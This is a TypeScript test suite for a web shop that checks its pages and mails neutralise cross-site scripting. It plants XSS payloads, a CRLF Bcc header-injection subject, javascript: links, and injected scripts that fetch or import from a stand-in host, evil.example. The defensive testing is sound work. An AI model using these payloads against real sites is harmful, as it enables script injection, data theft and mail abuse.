import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import PostalMime from 'postal-mime'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { protectPage } from '../../src/api/serving/protect-page.ts'
import { payAtTestGateway } from '../../src/shop/selling/payments/pay-at-test-gateway.ts'
import { startPayment } from '../../src/shop/selling/payments/start-payment.ts'
import { signUp } from '../support/signed-in-person.ts'
import { openScenario, type Scenario } from './scenario.ts'

/** Text of people appears unchanged in every page and mail, and none of it runs. */
const script = `</script><script>window.stolen=1</script><img src=x onerror="stolen=1">'"><svg/onload=stolen=1>`
const short = `"><script>stolen=1</script>`
let scenario: Scenario
let orderId: string
let pageUrl: string
let email: string

beforeAll(async () => {
  scenario = await openScenario()
  const { program, admin } = scenario
  const product = {
    name: `Pliers ${short}`,
    details: script,
    price: 1,
    available: 100,
    minimum_order: 1,
    image: 'https://tools.example/a.webp"onerror=stolen=1',
    family: 'pliers',
    specifications: [[`Length ${short}`, script]],
    keywords: [short],
  }
  const { insertedId } = (await program.call('POST', '/product', { token: admin.token, body: product })).body
  const eve = await signUp(program.url, { name: `Eve ${script}`.slice(0, 100) })
  email = eve.email
  const order = { productID: insertedId, orderUnit: 1, company: short, street: script, city: short, country: short, phone: '1' }
  orderId = (await program.call('POST', '/order', { token: eve.token, body: order })).body.insertedId
  const review = await program.call('POST', '/review', { token: eve.token, body: { ratings: 100, comment: script } })
  expect(review.status).toBe(200)
  await program.call('PATCH', `/user/${email}`, {
    token: eve.token,
    body: { name: `Eve ${short}`, bio: script, address: script, country: short },
  })
  await program.call('POST', '/contact', {
    body: { email: 'eve@evil.example', subject: `${short}\r\nBcc: all@evil.example`, message: script },
  })
  pageUrl = (await program.call('POST', `/payment/${orderId}`, { token: eve.token })).body.url
})
afterAll(() => scenario?.close())

/** The elements of a page that come from a text and would run. */
const foreign = /<script>\s*(?:window\.)?stolen|<img src=x|<svg\/onload|onerror="stolen|"onerror=/i
const inlineScript = /<script\b(?![^>]*(?:\bsrc=|json"))[^>]*>([\s\S]*?)<\/script>/gi
const isAlive = (html: string) => foreign.test(html.replace(inlineScript, ''))

async function page(path: string) {
  const response = await fetch(`${scenario.program.url}${path}`, { headers: { accept: 'text/html' } })
  return { html: await response.text(), policy: response.headers.get('content-security-policy') ?? '', headers: response.headers }
}

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

describe.each([
  ['the home page', () => '/'],
  ['the product list', () => '/products'],
  ['a search for it', () => `/products?search=${encodeURIComponent(script)}`],
  ['a sort of it', () => `/products?sort=${encodeURIComponent(script)}`],
  ['the login page on the way from it', () => `/login?from=${encodeURIComponent(`/${script}`)}`],
  ['a page that does not exist', () => `/${encodeURIComponent(script)}`],
  ['a product that does not exist', () => `/products/${encodeURIComponent(short)}`],
  ['the payment page of the order', () => `/payment/${encodeURIComponent(script)}`],
])('%s', (_what, pathOf) => {
  test('contains no injected script, and its policy would block one', async () => {
    const { html, policy, headers } = await page(pathOf())
    expect(isAlive(html)).toBe(false)
    expect(html).toContain('<!DOCTYPE html>')
    const scripts = [...html.matchAll(inlineScript)].map(([, text = '']) => text)
    expect(scripts.length).toBeGreaterThan(3)
    for (const text of scripts) expect(policy, text.slice(0, 100)).toContain(hashOf(text))
    expect(policy).not.toMatch(/script-src[^;]*unsafe/)
    expect(policy).toMatch(/frame-ancestors 'none'/)
    expect(headers.get('x-frame-options')).toBe('DENY')
  })
})

test('the product page shows its text as text', async () => {
  const { slug } = (await scenario.program.call('GET', '/product/')).body.find(({ name }: { name: string }) => name.startsWith('Pliers'))
  const { html } = await page(`/products/${slug}`)
  expect(isAlive(html)).toBe(false)
  expect(html).toContain('&lt;script&gt;')
})

describe('a script that was injected anyway', () => {
  const nonce = 'b0f5f5a8'
  /** The page as it is rendered: its own inline scripts carry the nonce. */
  const rendered = async () => {
    const { html, policy } = await page('/')
    return { html: html.replace(/<script\b(?![^>]*(?:\bsrc=|json"))/g, `<script nonce="${nonce}"`), served: { html, policy } }
  }

  test('is the only one without a nonce: the scripts of the page have one, and it leaves with none', async () => {
    const { html, served } = await rendered()
    expect(protectPage(html, nonce, false)).toEqual(served)
    expect(served.html).not.toContain('nonce=')
  })

  test.each([
    ['of its own', 'window.stolen=1', ''],
    ['with the nonce of another rendering', 'window.stolen=1', ' nonce="b0f5f5a9"'],
    ['with an empty nonce', 'window.stolen=1', ' nonce'],
    ['that begins like React Router’s', 'window.__reactRouterContext.streamController.close();stolen=1', ''],
    ['within React Router’s data', 'window.__reactRouterContext.streamController.enqueue(""+fetch("https://evil.example")+"");', ''],
    ['that imports', 'import * as route0 from "https://evil.example/a.js";import("/assets/entry.js");', ' type="module"'],
  ])('%s has no hash and does not run', async (_what, script, attributes) => {
    const { html, served } = await rendered()
    const spoilt = protectPage(html.replace('</body>', `<script${attributes}>${script}</script></body>`), nonce, false)
    expect(spoilt.policy).toBe(served.policy)
    expect(spoilt.policy).not.toContain(hashOf(script))
  })
})

test('the test gateway’s page shows the product’s name as text and runs no script at all', async () => {
  const response = await fetch(pageUrl)
  const html = await response.text()
  expect(isAlive(html)).toBe(false)
  expect(html).toContain('&#60;script&#62;')
  expect(response.headers.get('content-security-policy')).not.toContain('script-src')
  expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
  const tried = await fetch(pageUrl, { method: 'POST', body: new URLSearchParams({ card: script }) })
  expect(isAlive(await tried.text())).toBe(false)
})

test('API responses are JSON that no browser renders as a page', async () => {
  const { headers, text } = await scenario.program.call('GET', '/review')
  expect(text).toContain('stolen')
  expect(headers.get('content-type')).toBe('application/json')
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('content-security-policy')).toContain("default-src 'none'")
})

describe('every mail', () => {
  const read = async () => {
    const folder = join(scenario.program.shop.config.dataDir, 'mail')
    return Promise.all(
      readdirSync(folder)
        .filter((name) => name.endsWith('.eml'))
        .map((name) => PostalMime.parse(readFileSync(join(folder, name)))),
    )
  }

  test('shows it as text: welcome, order, receipt and message', async () => {
    const { shop } = scenario.program
    const {
      id,
      name,
      image,
      email: address,
    } = await shop.db.selectFrom('person').selectAll().where('email', '=', email).executeTakeFirstOrThrow()
    const { url } = await startPayment(shop, { kind: 'customer', id, name, email: address, photo: image ?? '' }, orderId)
    await payAtTestGateway(shop, url.slice(url.lastIndexOf('/') + 1), '4242 4242 4242 4242')
    const subjects = [/^Welcome/, /^Your order/, /^Receipt/, /^Message from/]
    await vi.waitFor(async () => {
      const mails = await read()
      for (const subject of subjects) expect(mails.some((mail) => subject.test(mail.subject ?? ''))).toBe(true)
    }, 15_000)
    for (const mail of await read()) {
      expect(mail.html, mail.subject).not.toMatch(/<script|<img|<svg|onerror="|onload=(?!.*&#)/i)
      expect(mail.text, mail.subject).toBeTruthy()
    }
    const [receipt] = (await read()).filter(({ subject }) => /^Receipt/.test(subject ?? ''))
    expect(receipt?.html).toContain('&#60;script&#62;')
  })

  test('reaches its recipient, whatever its subject contains', async () => {
    const mails = await read()
    expect(mails.length).toBeGreaterThan(0)
    for (const { bcc, cc, headers } of mails) {
      expect([...(bcc ?? []), ...(cc ?? [])]).toEqual([])
      expect(headers.some(({ key }) => key === 'bcc')).toBe(false)
    }
  })
})

test.each(['javascript:alert(1)', 'data:text/html,<script>stolen=1</script>', 'https://a.example/" onmouseover="stolen=1', 'vbscript:x'])(
  'a profile does not link to %s',
  async (address) => {
    const answer = await scenario.attack('PATCH', `/user/${scenario.attacker.email}`, {
      body: { name: 'Eve', facebook: address, github: address },
    })
    expect(answer.status).toBe(400)
  },
)
